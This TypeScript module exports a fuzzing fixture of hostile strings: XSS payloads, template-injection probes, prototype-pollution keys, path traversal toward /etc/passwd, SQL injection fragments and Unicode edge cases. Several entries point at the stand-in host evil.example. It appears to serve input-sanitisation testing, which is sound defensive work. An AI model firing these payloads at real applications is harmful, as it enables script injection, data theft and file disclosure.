const markup = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.example/"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><input name=q>',
  '<object data="https://evil.example/x"></object>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<details open ontoggle=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
]
const templates = [
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '{% for x in ().__class__.__bases__ %}{% endfor %}',
  '#{7*7}',
  '<%= 7*7 %>',
  '${inputs.x}${env:PATH}',
]
const links = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/p.png)',
  '//evil.example/',
  'https://evil.example/%00',
]
const keys = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', '__defineGetter__']
const paths = ['../../etc/passwd', '..\\..\\windows', '/etc/passwd\0.md', 'CON', '%2e%2e%2f']
const queries = ["' OR 1=1 --", '"; DROP TABLE runs; --', '*:* AND NOT x', '(((((((((((', '\\']
const letters = [
  '\u202Eevil\u202C',
  'Z\u0351\u036B\u0343a\u0329l\u0323g\u0321o',
  '👩‍👩‍👧‍👦',
  'ﷺ'.repeat(40),
  'a'.repeat(5_000),
]

/** Fifty texts that mean harm where they are taken for more than texts. */
export const hostileStrings: readonly string[] = [
  ...markup,
  ...templates,
  ...links,
  ...keys,
  ...paths,
  ...queries,
  ...letters,
]
